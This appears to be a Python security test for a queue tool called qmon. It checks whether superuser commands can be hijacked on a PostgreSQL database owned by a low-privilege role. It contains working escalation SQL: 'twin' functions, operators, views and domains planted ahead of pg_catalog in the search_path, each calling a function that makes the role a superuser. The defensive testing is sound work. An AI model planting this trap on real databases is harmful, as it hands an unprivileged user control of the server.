"""A role with few rights that tries to gain those of a superuser who runs qmon on its database.

The role owns the database and is no superuser. PostgreSQL counts each call of its functions (``track_functions``), even
in transactions that cannot write, so none of its code can run unnoticed.
"""

from __future__ import annotations

import contextlib
import json
import re
from collections.abc import Iterable, Iterator, Mapping, Sequence
from pathlib import Path
from typing import Final

import pyodbc

from tests.cli.calling import call
from tests.facts import connected, odbc, query

MALLORY: Final = "mallory"

# Functions, operators, relations and types of the system get twins in a schema that is found first: an unqualified name
# in SQL of qmon or its driver resolves to the twin. Functions that PL/pgSQL cannot express have none.
_TWINS: Final = """
DO $$
DECLARE
    v_each  record;
    v_names text[] := pg_catalog.string_to_array(pg_catalog.current_setting('evil.names'), ',');
BEGIN
    FOR v_each IN
        SELECT p.oid, p.proname, pg_catalog.pg_get_function_identity_arguments(p.oid) AS arguments,
               pg_catalog.pg_get_function_result(p.oid) AS result, p.provolatile, p.pronargs
        FROM pg_catalog.pg_proc AS p
        WHERE p.pronamespace = 'pg_catalog'::regnamespace AND p.prokind = 'f' AND p.provariadic = 0
            AND (p.proname = ANY (v_names) OR p.oid IN (SELECT o.oprcode FROM pg_catalog.pg_operator AS o))
    LOOP
        BEGIN
            EXECUTE pg_catalog.format(
                'CREATE FUNCTION public.%I(%s) RETURNS %s LANGUAGE plpgsql %s AS %L',
                v_each.proname, v_each.arguments, v_each.result,
                CASE v_each.provolatile WHEN 'i' THEN 'IMMUTABLE' WHEN 's' THEN 'STABLE' ELSE 'VOLATILE' END,
                'BEGIN PERFORM evil.run(); RETURN NULL; END');
        EXCEPTION WHEN OTHERS THEN
            CONTINUE;
        END;
    END LOOP;
    FOR v_each IN
        SELECT o.oprname, pg_catalog.format_type(o.oprleft, NULL) AS of_left, o.oprleft,
               pg_catalog.format_type(o.oprright, NULL) AS of_right, f.proname
        FROM pg_catalog.pg_operator AS o
        JOIN pg_catalog.pg_proc AS f ON f.oid = o.oprcode
        WHERE o.oprnamespace = 'pg_catalog'::regnamespace AND o.oprright <> 0
    LOOP
        BEGIN
            EXECUTE pg_catalog.format(
                'CREATE OPERATOR public.%s (FUNCTION = public.%I, %s RIGHTARG = %s)', v_each.oprname, v_each.proname,
                CASE WHEN v_each.oprleft = 0 THEN '' ELSE 'LEFTARG = ' || v_each.of_left || ',' END, v_each.of_right);
        EXCEPTION WHEN OTHERS THEN
            CONTINUE;
        END;
    END LOOP;
    FOR v_each IN
        SELECT c.relname FROM pg_catalog.pg_class AS c
        WHERE c.relnamespace = 'pg_catalog'::regnamespace AND c.relkind IN ('r', 'v')
    LOOP
        BEGIN
            EXECUTE pg_catalog.format(
                'CREATE VIEW public.%I AS SELECT t.* FROM pg_catalog.%I AS t WHERE evil.run() IS NULL',
                v_each.relname, v_each.relname);
        EXCEPTION WHEN OTHERS THEN
            CONTINUE;
        END;
    END LOOP;
    FOREACH v_each.relname IN ARRAY ARRAY['regclass', 'oid', 'name', 'float8', 'int4', 'int8', 'text', 'bool', 'json',
                                          'timestamptz', 'interval', 'numeric', 'xid', 'tid', 'bytea', 'bigint']
    LOOP
        EXECUTE pg_catalog.format('CREATE DOMAIN public.%I AS pg_catalog.%I CHECK (evil.run() IS NULL)',
                                  v_each.relname, pg_catalog.replace(v_each.relname, 'bigint', 'int8'));
    END LOOP;
    EXECUTE pg_catalog.format('ALTER DATABASE %I SET search_path = public, pg_catalog', pg_catalog.current_database());
END
$$
"""
# It takes the rights it can get, and returns NULL so that the calling statement continues.
_EVIL: Final = f"""
CREATE SCHEMA evil;
CREATE FUNCTION evil.run() RETURNS pg_catalog.text LANGUAGE plpgsql AS $$
BEGIN
    IF pg_catalog.current_setting('transaction_read_only') = 'off' THEN
        ALTER ROLE {MALLORY} SUPERUSER;
    END IF;
    RETURN NULL;
EXCEPTION WHEN OTHERS THEN
    RETURN NULL;
END
$$;
GRANT USAGE ON SCHEMA evil TO PUBLIC
"""


# Commands of a superuser, with the target before the rest. The last ones act.
COMMANDS: Final = (
    ("queues",),
    ("doctor",),
    ("check",),
    ("operations",),
    ("setup", "--print"),
    ("purge", "status", "--dry-run"),
    ("requeue", "status", "--dry-run"),
    ("pause", "status", "--for", "1m", "--yes", "--reason", "test"),
    ("resume", "status", "--yes", "--reason", "test"),
    ("purge", "fifo", "--state", "ready", "--yes", "--reason", "test"),
)


def called_in_sql() -> frozenset[str]:
    """Return the names of functions called in qmon's SQL for PostgreSQL."""
    folder = Path(__file__).parents[2] / "sql" / "postgres"
    return frozenset(
        name for file in folder.rglob("*.sql") for name in re.findall(r"[a-z_0-9]+(?=\()", file.read_text("utf-8"))
    )


@contextlib.contextmanager
def owned_by_mallory(url: str) -> Iterator[str]:
    """Give the database to a role that is no superuser; yield the database's URL for that role."""
    query(url, f"CREATE ROLE {MALLORY} LOGIN")
    name = query(url, "SELECT pg_catalog.current_database()")[0][0]
    query(url, f"ALTER DATABASE {name} OWNER TO {MALLORY}")
    query(url, f"ALTER DATABASE {name} SET track_functions = 'all'")
    query(url, f"ALTER SCHEMA public OWNER TO {MALLORY}")
    theirs = url.replace("postgres@", f"{MALLORY}@", 1)
    query(theirs, _EVIL)
    try:
        yield theirs
    finally:
        look(url, f"ALTER DATABASE {name} OWNER TO postgres")
        look(url, f"ALTER DATABASE {name} RESET ALL")
        look(url, "ALTER SCHEMA public OWNER TO pg_database_owner")
        look(url, f"DROP OWNED BY {MALLORY} CASCADE")
        look(url, f"DROP ROLE {MALLORY}")


def plant_twins(theirs: str, names: Iterable[str]) -> int:
    """Create twins of the functions with these names and of all operators; return the number of functions."""
    with connected(theirs) as raw:
        raw.execute("SET search_path = pg_catalog")
        raw.execute("SELECT set_config('evil.names', ?, false)", ",".join(sorted(names))).fetchall()
        raw.execute(_TWINS)
        counted = "SELECT count(*) FROM pg_proc WHERE pronamespace = 'public'::regnamespace"
        return int(raw.execute(counted).fetchval())


def look(url: str, text: str) -> list[tuple[object, ...]]:
    """Run a statement as a superuser. It must not run the role's code either: see the search_path."""
    raw = pyodbc.connect(odbc(url) + ";pqopt={options='-c search_path=pg_catalog'}", autocommit=True)
    with contextlib.closing(raw):
        cursor = raw.execute(text)
        return [tuple(row) for row in cursor.fetchall()] if cursor.description else []


def evil_calls(url: str) -> int:
    """Return how many calls of the role's functions ended sessions have made."""
    return int(
        str(
            look(
                url,
                "SELECT coalesce(sum(calls), 0) FROM pg_stat_user_functions WHERE schemaname IN ('evil', 'public')"
                " AND funcname NOT LIKE 'fifo%' AND funcname NOT LIKE 'status%'",
            )[0][0]
        )
    )


def has_risen(url: str) -> bool:
    """Return whether the role has become a superuser."""
    return look(url, f"SELECT rolsuper FROM pg_roles WHERE rolname = '{MALLORY}'") != [(False,)]


def readings(url: str, environment: Mapping[str, str]) -> list[tuple[object, ...]]:
    """Return the verdict of ``qmon status`` on each queue."""
    done = call("status", url, "--output", "json", environment=environment)
    assert done.exit_code == 0, done.output
    return [(each["name"], each["ready"], each["in_progress"]) for each in json.loads(done.stdout)["queues"]]


def faults_of_twins(
    url: str, folder: Path, names: Iterable[str], commands: Sequence[tuple[str, ...]] = COMMANDS
) -> list[str]:
    """Run commands in a database full of twins; return the faults, a line each.

    The database has the queues ``fifo`` and ``status`` with messages in them.
    """
    environment = {"XDG_CONFIG_HOME": str(folder / "config"), "XDG_STATE_HOME": str(folder / "state")}
    before = readings(url, environment)
    faults: list[str] = []
    with owned_by_mallory(url) as theirs:
        planted = plant_twins(theirs, names)
        if planted < 500:
            faults.append(f"only {planted} twins were planted")
        if readings(url, environment) != before:
            faults.append("status: other readings than before")
        for command, *rest in commands:
            done = call(command, url, *rest, environment=environment)
            words = " ".join((command, *rest))
            if "Traceback" in done.output or "went wrong" in done.output:
                faults.append(f"{words}: exit code {done.exit_code}: {done.output[-300:]}")
            if (calls := evil_calls(url)) > 0:
                faults.append(f"{words}: {calls} calls of their functions")
                break
            if has_risen(url):
                faults.append(f"{words}: the role has become a superuser")
                break
    return faults
